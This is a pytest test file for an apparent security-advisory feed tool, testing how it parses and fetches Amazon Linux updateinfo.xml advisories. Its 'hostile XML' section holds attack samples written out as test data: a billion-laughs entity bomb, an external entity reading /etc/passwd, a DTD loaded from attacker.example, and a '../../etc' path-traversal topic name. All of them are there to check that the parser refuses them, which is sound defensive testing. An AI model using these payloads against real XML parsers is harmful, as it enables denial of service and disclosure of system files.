"""Amazon Linux: an update as statements about packages of a release, extras apart."""

from __future__ import annotations

import gzip
from datetime import UTC, datetime

import orjson
import pytest

from sentrikat.domain.advisory import Advisory, Product
from sentrikat.domain.errors import FeedFormatError, Unavailable
from sentrikat.domain.inventory import release_of
from sentrikat.domain.ranges import contains
from sentrikat.feeds import amazon
from sentrikat.feeds.adapter import FeedState, FetchOptions, Quarantined
from sentrikat.feeds.formats.xml_records import xml_records
from sentrikat.feeds.transports.memory import DictTransport, document
from tests.unit.feeds.samples import advisories, sample

OPTIONS = FetchOptions(now=datetime(2026, 11, 1, tzinfo=UTC))
UPDATES = sample("amazon/updateinfo.xml")


def updates() -> dict[str, Advisory]:
    return {one.id: one for one in advisories(amazon.parse, document(UPDATES))}


def test_an_update_names_its_flaws_and_the_first_good_build() -> None:
    found = updates()["ALAS2-2018-0001"]

    assert found.vulnerabilities == ("CVE-2017-0001",)
    assert (found.published, found.description) == (
        datetime(2018, 1, 11, 21, 5, tzinfo=UTC),
        "A flaw & its repair.",
    )
    (statement,) = found.statements  # without debugging symbols; x86_64 speaks for the architectures
    assert statement.product == Product("amzn:2", "kernel")
    assert (statement.versions.introduced, statement.versions.fixed) == (None, "4.14.13-8.amzn2")
    assert statement.note == "severity: critical"


def test_updates_that_repair_no_flaw_are_left_out() -> None:
    assert set(updates()) == {"ALAS2-2018-0001", "ALAS2KERNEL-5.10-2022-001", "ALAS-2011-1"}


@pytest.mark.parametrize(
    ("kernel", "affected"),
    [
        ("5.10.90-1.amzn2", True),
        ("5.10.96-133.473.amzn2", False),  # the repaired build
        ("4.14.300-1.amzn2", False),  # the core's kernel is another line, repaired by updates of its own
        ("5.4.200-1.amzn2", False),  # so is that of another topic
        ("5.15.20-1.amzn2", False),
    ],
)
def test_a_topic_of_the_extras_speaks_of_its_own_line_only(kernel: str, affected: bool) -> None:
    kernels = [
        one for one in updates()["ALAS2KERNEL-5.10-2022-001"].statements if one.product.name == "kernel"
    ]

    assert [contains(one.versions, kernel) for one in kernels] == [affected]
    assert kernels[0].note == "extras: kernel-5.10; severity: important"


def test_another_program_of_a_topic_has_no_line() -> None:
    names = {
        one.product.name: one.versions.introduced for one in updates()["ALAS2KERNEL-5.10-2022-001"].statements
    }

    assert names == {"kernel": "5.10", "kernel-livepatch-5.10.96-90.460": None}


@pytest.mark.parametrize(
    ("version", "release"),
    [
        ("2018.03", "amzn:1"),
        ("2011.09", "amzn:1"),
        ("2", "amzn:2"),
        ("2023", "amzn:2023"),
        ("2022", "amzn:2022"),
    ],
)
def test_hosts_of_a_release_are_those_its_advisories_mean(version: str, release: str) -> None:
    assert release_of("amzn", version) == release


def test_the_first_release_is_one_and_an_update_without_cve_is_about_itself() -> None:
    found = updates()["ALAS-2011-1"]

    assert found.vulnerabilities == ("ALAS-2011-1",)
    assert [(one.product.ecosystem, one.versions.fixed) for one in found.statements] == [
        ("amzn:1", "1:2.2.21-1.18.amzn1")
    ]


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        (b'short="amazon-linux-2"', b'short="centos-7"', "no release of Amazon Linux"),
        (b"<id>ALAS2-2018-0001</id>", b"<id>RHSA-2018:1</id>", "no id of an advisory"),
        (b"<id>ALAS2-2018-0001</id>", b"", "no id of an advisory"),
        (b'release="8.amzn2" version="4.14.13"', b'release="8.amzn2"', "version"),
        (b'date="2018-01-11 21:05"', b'date="soon"', "issued"),
    ],
)
def test_an_update_of_another_shape_is_set_aside(old: bytes, new: bytes, says: str) -> None:
    found = list(amazon.parse(document(UPDATES.replace(old, new))))
    (aside,) = [one for one in found if isinstance(one, Quarantined)]

    assert says in aside.reason
    assert len(found) == 3


# -- hostile XML -------------------------------------------------------------------------

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE updates [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<updates><update type="security"><id>&c;</id></update></updates>"""
BLOWUP = b'<?xml version="1.0"?><!DOCTYPE updates [<!ENTITY a "%s">]><updates>%s</updates>' % (
    b"a" * 50_000,
    b"&a;" * 50_000,
)
FOREIGN_FILE = b'<!DOCTYPE updates [<!ENTITY x SYSTEM "file:///etc/passwd">]><updates><update><id>&x;</id></update></updates>'
FOREIGN_TYPE = b'<!DOCTYPE updates SYSTEM "http://attacker.example/evil.dtd"><updates/>'


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (LAUGHS, "declares a document type"),
        (BLOWUP, "declares a document type"),
        (FOREIGN_FILE, "declares a document type"),
        (FOREIGN_TYPE, "declares a document type"),
        (gzip.compress(LAUGHS, mtime=0), "declares a document type"),
        (b"<updates>" + b"<a>" * 100_000, "nested more than"),
        (b"<html><body>Please sign in</body></html>", "root is 'html'"),
        (b"<updates><update>", "no well-formed XML"),
        (b"<updates></wrong>", "no well-formed XML"),
        (b"", "no well-formed XML"),
        (UPDATES[:900], "no well-formed XML"),
        (gzip.compress(UPDATES, mtime=0)[:300], "end-of-stream"),
        (
            UPDATES.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="nonsense"?>'),
            "well-formed",
        ),
    ],
    ids=lambda value: None if isinstance(value, str) else repr(value[:24]),
)
def test_hostile_or_broken_xml_is_refused_before_it_unfolds(content: bytes, says: str) -> None:
    with pytest.raises(FeedFormatError, match=says):
        list(amazon.parse(document(content)))


def test_a_record_as_large_as_memory_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sentrikat.feeds.formats.xml_records.LARGEST_RECORD", 10_000)
    content = b'<updates><update type="security"><id>%s</id></update></updates>' % (b"a" * 20_000)

    with pytest.raises(FeedFormatError, match="larger than 10,000"):
        list(amazon.parse(document(content)))


def test_records_come_one_after_the_other_and_are_forgotten() -> None:
    content = b"<updates>" + b"<update><id>x</id></update>" * 20_000 + b"</updates>"
    records = xml_records(document(content).open(), "updates", "update")

    assert next(records).findtext("id") == "x"
    assert sum(1 for _ in records) == 19_999


# -- fetching ----------------------------------------------------------------------------

REPOMD = b"""<?xml version="1.0"?><repomd xmlns="http://linux.duke.edu/metadata/repo">
<data type="primary"><location href="repodata/p.xml.gz"/></data>
<data type="updateinfo"><location href="repodata/updateinfo.xml.gz"/></data></repomd>"""


def repository(mirrors: str, base: str, index: bytes = REPOMD) -> dict[str, bytes]:
    return {
        mirrors: f"{base}\n".encode(),
        f"{base}/repodata/repomd.xml".replace("http:", "https:"): index,
        f"{base}/repodata/updateinfo.xml.gz".replace("http:", "https:"): gzip.compress(UPDATES, mtime=0),
    }


def server() -> DictTransport:
    base = amazon.BASE
    topics = orjson.dumps({"topics": [{"n": "kernel-5.10"}, {"n": "../../etc"}, {"n": "gone"}]})
    return DictTransport(
        repository(amazon.CORES[0], f"{base}2/core/2.0/x86_64/abc")
        | repository(amazon.CORES[1], f"{base}al2023/core/guids/def/x86_64")
        | repository(
            f"{base}2/extras/kernel-5.10/latest/x86_64/mirror.list",
            f"http://{base[8:]}2/extras/kernel-5.10/1",
        )
        | {amazon.EXTRAS: topics}
    )


def test_repositories_are_found_through_their_lists_of_mirrors() -> None:
    transport = server()
    documents = list(amazon.fetch(transport, FeedState(), OPTIONS))

    assert [one.url.removeprefix(amazon.BASE) for one in documents] == [
        "2/core/2.0/x86_64/abc/repodata/updateinfo.xml.gz",
        "al2023/core/guids/def/x86_64/repodata/updateinfo.xml.gz",
        "2/extras/kernel-5.10/1/repodata/updateinfo.xml.gz",
    ]
    assert all(url.startswith(amazon.BASE) for url in transport.asked)
    assert not any("etc" in url for url in transport.asked)
    assert len(advisories(amazon.parse, documents[0])) == 3
    assert list(amazon.fetch(transport, FeedState().after(documents), OPTIONS)) == []


@pytest.mark.parametrize("index", [b"<repomd/>", b'<repomd><data type="updateinfo"/></repomd>'])
def test_a_repository_without_update_information_has_none(index: bytes) -> None:
    transport = server()
    transport.documents |= repository(amazon.CORES[0], f"{amazon.BASE}2/core/2.0/x86_64/abc", index)

    assert len(list(amazon.fetch(transport, FeedState(), OPTIONS))) == 2


@pytest.mark.parametrize("mirrors", [b"", b"ftp://host/", b"<html>", b"\xff\xfe"])
def test_a_list_of_mirrors_that_names_no_repository_is_refused(mirrors: bytes) -> None:
    transport = server()
    transport.documents[amazon.CORES[0]] = mirrors

    with pytest.raises(FeedFormatError):
        list(amazon.fetch(transport, FeedState(), OPTIONS))


def test_a_core_that_is_not_there_is_trouble() -> None:
    transport = server()
    del transport.documents[amazon.CORES[1]]

    with pytest.raises(Unavailable):
        list(amazon.fetch(transport, FeedState(), OPTIONS))


def test_a_catalog_without_topics_is_refused() -> None:
    transport = server()
    transport.documents[amazon.EXTRAS] = b'{"topics": []}'

    with pytest.raises(FeedFormatError):
        list(amazon.fetch(transport, FeedState(), OPTIONS))


def test_a_core_without_any_update_is_refused_and_a_topic_may_have_none_yet() -> None:
    empty = b"<updates></updates>"

    with pytest.raises(FeedFormatError, match="no update at all"):
        list(amazon.parse(document(empty, f"{amazon.BASE}2/core/abc/repodata/updateinfo.xml")))
    assert list(amazon.parse(document(empty, f"{amazon.BASE}2/extras/x/repodata/updateinfo.xml"))) == []
